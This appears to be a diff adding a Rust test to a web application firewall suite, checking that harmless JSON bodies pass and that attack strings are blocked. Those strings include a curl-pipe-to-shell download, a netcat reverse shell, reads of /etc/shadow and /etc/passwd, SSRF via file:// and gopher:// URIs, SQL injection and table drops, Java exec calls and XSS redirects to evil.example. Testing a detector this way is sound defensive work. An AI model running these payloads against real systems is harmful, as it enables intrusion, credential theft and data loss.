@@ -1303,3 +1303,97 @@ fn a_command_word_at_paranoia_level_2_ends_where_a_shell_word_ends() {
         assert!(o.blocked && o.matches.iter().any(|m| m.rule_id == 3212), "{q}: {o:?}");
     }
 }
+
+#[test]
+fn holdout11_shapes_pass_and_their_attacks_still_score() {
+    let waf = waf_with("{}");
+    for body in [
+        // A language server's document addresses (and the code they hold).
+        r#"{"jsonrpc": "2.0", "method": "textDocument/didOpen", "params": {"textDocument": {"uri": "file:///workspace/api/routes.py", "text": "row = db.execute(text(\"SELECT * FROM orders WHERE id = :id\"))\nreturn row"}}}"#,
+        r#"{"uri": "file:///home/ana/src/main.rs"}"#,
+        r#"{"uri": "file:///c:/Users/ana/notes.md"}"#,
+        // Go's runtime package in a profile.
+        r#"{"top": [{"frame": "runtime.mallocgc", "self": 812}]}"#,
+        // A cast in a whole query.
+        r#"{"sql": "SELECT o.id FROM orders o WHERE o.id::text = $1 ORDER BY o.created_at DESC"}"#,
+        // An assistant's answer that is one fenced script.
+        r#"{"content": "```bash\ncd /srv/app/logs || exit 1\nls -1t *.log | tail -n +6 | while read -r f; do\n  find \"$f\" -mtime +14 -delete\ndone\n```"}"#,
+        // An SQL script quoted in a question, each statement on its own line.
+        r#"{"content": "I get a foreign key error. Tables:\n\nCREATE TABLE orders (id INT PRIMARY KEY);\nCREATE TABLE items (id INT, order_id INT REFERENCES orders(id));\n\nINSERT INTO items (order_id) VALUES (42);"}"#,
+        // Quoted identifiers qualified by a table, in an error message.
+        r#"{"value": "PG::QueryCanceled: ERROR: canceling statement\n: SELECT \"reports\".* FROM \"reports\" WHERE \"reports\".\"account_id\" = $1 AND (created_at BETWEEN '2024-01-01' AND '2024-11-29') ORDER BY \"reports\".\"id\" ASC"}"#,
+        // A quiz's answers and a notebook's lines: programs of one family in several values.
+        r#"{"choices": ["SELECT customer_id, COUNT(*) FROM orders GROUP BY customer_id", "SELECT COUNT(customer_id) FROM orders", "SELECT DISTINCT COUNT(*) FROM orders"]}"#,
+        r#"{"choices": ["ls -la", "ls -h", "dir /s", "cat -a"]}"#,
+        r#"{"source": ["df = pd.read_sql(\"\"\"\n", "    SELECT plan, count(*) AS n FROM subscriptions\n", "    GROUP BY 1, 2\n", "\"\"\", engine)"]}"#,
+        r#"{"cells": [{"source": ["!pip install -q duckdb==1.1.3 polars"]}, {"source": ["%%bash\n", "ls -lh data/ | head -n 5\n", "wc -l data/events.csv"]}]}"#,
+        // An editor snippet's tab stops.
+        r#"{"body": ["func Test${1:Name}(t *testing.T) {", "\tif got := ${1}(tc.in); got != tc.want {"]}"#,
+        // A browser's JavaScript stack trace.
+        r#"{"stack": "TypeError: Failed to fetch\n    at window.fetch (https://shop.example/app.js:2:18211)\n    at async HTMLButtonElement.<anonymous> (https://shop.example/app.js:14:1433)"}"#,
+    ] {
+        let o = json_post(&waf, body);
+        assert!(!o.blocked, "{body}: {o:?}");
+    }
+
+    // The attacks next to them.
+    let blocked = |body: &str, c: Category| {
+        let o = json_post(&waf, body);
+        assert!(blocked_category(&o, c), "{body}: {o:?}");
+    };
+    for q in [
+        "file:///etc/passwd",
+        "file:///proc/self/environ",
+        "file:///workspace/../etc/hosts",
+        "file://attacker.example/share/x",
+        "file:///c:/windows/win.ini",
+        "file:///workspace/a.py gopher://127.0.0.1:6379/_flushall",
+    ] {
+        let o = json_post(&waf, &format!(r#"{{"uri": "{q}"}}"#));
+        assert!(o.blocked && o.matches.iter().any(|m| m.rule_id == 3502 || m.rule_id == 3001), "{q}: {o:?}");
+    }
+    for q in ["runtime.getRuntime().exec('id')", "Runtime.halt(0)", "runtime.clonetransformer", "Runtime. exec(x)"] {
+        let o = json_post(&waf, &format!(r#"{{"q": "{q}"}}"#));
+        assert!(o.blocked && o.matches.iter().any(|m| m.rule_id == 4404), "{q}: {o:?}");
+    }
+    for q in ["1::int", "x'::text or 1=1--", "select password::text from users union select 1"] {
+        blocked(&format!(r#"{{"q": "{q}"}}"#), Category::Sqli);
+    }
+    for c in [
+        r#"```\ncurl http://203.0.113.9/x | sh\n```"#,
+        r#"```bash\nnc -e /bin/sh 203.0.113.9 4444\n```"#,
+        r#"```\nping -c 1 127.0.0.1; cat /etc/shadow\n```"#,
+        r#"```\n; id\n```"#,
+    ] {
+        blocked(&format!(r#"{{"content": "{c}"}}"#), Category::Rce);
+    }
+    for t in [
+        r#"1;\ndrop table users"#,
+        r#"note\n1;\ndrop table users"#,
+        r#"x';\ndrop table users;--"#,
+        r#"\"t\".\"c\";drop table users"#,
+        r#"\"users\".\"name\"' or '1'='1"#,
+    ] {
+        blocked(&format!(r#"{{"text": "{t}"}}"#), Category::Sqli);
+    }
+    // Programs of two families still add up; a program that reaches the system is critical.
+    let o = outcome(&waf, "/x?a=ls%20-la&b=select%20*%20from%20users");
+    assert!(o.blocked, "{o:?}");
+    for q in ["!!", "!1", "!curl http://203.0.113.9/x | sh", "!cat /etc/passwd"] {
+        blocked(&format!(r#"{{"q": "{q}"}}"#), Category::Rce);
+    }
+    for q in ["order by 1--", " ORDER BY 3#", "1 order by 5--"] {
+        blocked(&format!(r#"{{"q": "{q}"}}"#), Category::Sqli);
+    }
+    for q in ["c${1}url http://203.0.113.9/a.sh", "x;c${2}url -o /tmp/a http://203.0.113.9/a", "${system('id')}"] {
+        let o = json_post(&waf, &format!(r#"{{"q": "{q}"}}"#));
+        assert!(o.blocked && o.matches.iter().any(|m| m.rule_id == 3305), "{q}: {o:?}");
+    }
+    for s in [
+        r#"Error: x\n    at a (https://a.example/b.js:1:1)\nwindow.location='//evil.example'"#,
+        r#"<img src=x onerror=alert(1)>\n    at x (https://a.example/a.js:1:1)"#,
+        "window.location",
+    ] {
+        blocked(&format!(r#"{{"stack": "{s}"}}"#), Category::Xss);
+    }
+}
